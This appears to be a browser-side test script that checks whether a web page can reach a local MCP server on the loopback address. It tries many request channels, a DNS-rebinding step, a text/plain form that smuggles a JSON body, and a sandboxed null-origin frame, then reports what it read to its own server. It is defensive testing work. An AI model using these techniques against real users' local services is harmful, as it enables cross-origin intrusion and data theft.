// What a page tries against a server on the loopback address: every way that a browser has of sending something. It
// runs in the browser, tells the page's own server what it could read, and goes on to the next page.
const { door, token, home, turns, next } = window.setting;
const params = {
  protocolVersion: '2025-11-25',
  capabilities: {},
  clientInfo: { name: 'page', version: '1' },
};
const opening = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params });
const endpoint = `${door}/mcp`;
const json = { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream' };
const bearer = { Authorization: `Bearer ${token}` };
const post = { method: 'POST', body: opening };

/** Each gives what it could read; nothing where it could not, and an error where it was told so. */
const attempts = {
  'fetch of JSON': () => read(endpoint, { ...post, headers: json }),
  'fetch with the token': () => read(endpoint, { ...post, headers: { ...json, ...bearer } }),
  'fetch of a session with the token': () =>
    read(endpoint, { headers: { ...bearer, Accept: 'text/event-stream', 'Mcp-Session-Id': 'guessed' } }),
  'simple fetch': () => read(endpoint, { ...post, headers: { 'Content-Type': 'text/plain' } }),
  'opaque fetch': () => read(endpoint, { ...post, mode: 'no-cors' }),
  'opaque fetch that claims JSON and the token': () =>
    read(endpoint, { ...post, mode: 'no-cors', headers: { ...json, ...bearer } }),
  'opaque fetch with cookies': () => read(endpoint, { ...post, mode: 'no-cors', credentials: 'include' }),
  'opaque fetch without a referrer': () =>
    read(endpoint, { ...post, mode: 'no-cors', referrerPolicy: 'no-referrer' }),
  'fetch that outlives the page': () => read(endpoint, { ...post, mode: 'no-cors', keepalive: true }),
  'fetch that says it means the loopback address': () =>
    read(endpoint, { ...post, targetAddressSpace: 'loopback', headers: { ...json, ...bearer } }),
  'fetch led there by its own server': () =>
    read(`${home}/lead?to=${encodeURIComponent(endpoint)}`, { ...post, mode: 'no-cors' }),
  'fetch of DELETE': () => read(endpoint, { method: 'DELETE', headers: bearer }),
  'fetch of OPTIONS': () => read(endpoint, { method: 'OPTIONS' }),
  'fetch of the stream': () => read(endpoint, { headers: { Accept: 'text/event-stream' } }),
  'opaque fetch of the stream': () => read(endpoint, { mode: 'no-cors' }),
  'fetch of the health': () => read(`${door}/healthz`),
  'opaque fetch of the health': () => read(`${door}/healthz`, { mode: 'no-cors' }),
  'fetch of the metrics': () => read(`${door}/metrics`, { headers: bearer }),
  'request with headers of its own': () => ask({ ...json, ...bearer, 'X-Own': '1' }),
  'simple request': () => ask({ 'Content-Type': 'text/plain' }),
  'form of text': () => submit('text/plain'),
  'form of fields': () => submit('application/x-www-form-urlencoded'),
  'form of parts': () => submit('multipart/form-data'),
  'beacon of text': () => String(navigator.sendBeacon(endpoint, opening) ? '' : 'not sent'),
  'beacon of JSON': () => {
    navigator.sendBeacon(endpoint, new Blob([opening], { type: 'application/json' }));
    return '';
  },
  ping: () => {
    Object.assign(document.createElement('a'), { ping: endpoint, href: '#pinged' }).click();
    return '';
  },
  'script of the health': () => load('script', { src: `${door}/healthz` }),
  'script of the endpoint': () => load('script', { src: endpoint }),
  'module of the health': () => load('script', { type: 'module', src: `${door}/healthz` }),
  import: async () => JSON.stringify(await import(`${door}/healthz`)),
  image: () => load('img', { src: `${door}/healthz` }),
  video: () => load('video', { src: `${door}/metrics` }),
  'style sheet': () => load('link', { rel: 'stylesheet', href: `${door}/healthz` }),
  preload: () =>
    load('link', { rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: `${door}/healthz` }),
  'frame of the health': () => frame({ src: `${door}/healthz` }),
  'frame of the endpoint': () => frame({ src: endpoint }),
  'frame without an origin': () => fromSandbox(),
  'report of a policy': () => frame({ src: `${home}/policy?to=${encodeURIComponent(endpoint)}` }, false),
  'stream of events': () => listen(new EventSource(endpoint)),
  'stream of events with cookies': () => listen(new EventSource(endpoint, { withCredentials: true })),
  'web socket': () => listen(new WebSocket(new URL(endpoint, location).href.replace('http', 'ws'))),
  worker: () => listen(new Worker(`${door}/healthz`)),
};

async function read(url, options) {
  const response = await fetch(url, options);
  const text = await response.text();
  return response.type === 'opaque' ? text : `${response.status} ${text}`;
}

function ask(headers) {
  return new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open('POST', endpoint);
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.onload = () => resolve(`${request.status} ${request.responseText}`);
    request.onerror = () => reject(new Error(`status ${request.status}`));
    request.send(opening);
  });
}

function load(tag, fields) {
  return new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(tag), fields);
    // That something was loaded is not yet something to read.
    element.onload = () => resolve('');
    element.onerror = () => reject(new Error('not loaded'));
    document.head.append(element);
  });
}

function frame(fields, isTheirs = true) {
  return new Promise((resolve) => {
    const element = Object.assign(document.createElement('iframe'), fields);
    element.onload = () => resolve(isTheirs ? textOf(element) : '');
    document.body.append(element);
  });
}

/** What is in a frame of another origin is out of reach. */
function textOf(element) {
  return element.contentDocument?.body.textContent ?? '';
}

function submit(enctype) {
  const name = `frame-${enctype}`;
  const done = frame({ name });
  const form = Object.assign(document.createElement('form'), { method: 'post', action: endpoint, enctype });
  // The text before and after the sign of equality becomes JSON in a form of text.
  form.append(Object.assign(document.createElement('input'), { name: opening.slice(0, -1), value: '}' }));
  form.target = name;
  document.body.append(form);
  return done.then(() => {
    const answered = new Promise((resolve) => {
      const element = document.querySelector(`iframe[name="${name}"]`);
      element.onload = () => resolve(textOf(element));
    });
    form.submit();
    return answered;
  });
}

function fromSandbox() {
  return new Promise((resolve) => {
    const inner = `fetch(${JSON.stringify(endpoint)}, { method: 'POST', headers: { 'Content-Type': 'text/plain' },
      body: ${JSON.stringify(opening)} }).then((response) => response.text()).then((text) => parent.postMessage(text, '*'),
      () => parent.postMessage('', '*'));`;
    window.addEventListener('message', ({ data }) => resolve(data), { once: true });
    const sandboxed = document.createElement('iframe');
    sandboxed.setAttribute('sandbox', 'allow-scripts');
    sandboxed.srcdoc = `<script>${inner}</script>`;
    document.body.append(sandboxed);
  });
}

function listen(source) {
  return new Promise((resolve, reject) => {
    source.onopen = () => resolve('opened');
    source.onmessage = ({ data }) => resolve(String(data));
    source.onerror = () => {
      source.close?.();
      reject(new Error('no stream'));
    };
  });
}

async function attempt([name, perform]) {
  const late = new Promise((_resolve, reject) => {
    setTimeout(() => reject(new Error('nothing was heard')), 10_000);
  });
  const found = await Promise.race([Promise.resolve().then(perform), late]).then(
    (text) => ({ name, read: text }),
    (error) => ({ name, read: '', error: String(error) }),
  );
  const line = document.createElement('pre');
  line.textContent = `${name}: ${found.read === '' ? (found.error ?? 'nothing to read') : found.read}`;
  document.body.append(line);
  return found;
}

// The page was loaded from its own server; from now on its name leads elsewhere.
if (turns) await fetch(`${home}/turn`, { method: 'POST', mode: 'no-cors' });
const findings = await Promise.all(Object.entries(attempts).map(attempt));
const body = JSON.stringify({ page: location.origin, findings });
await fetch(`${home}/found`, { method: 'POST', mode: 'no-cors', body });
if (next) location.href = next;
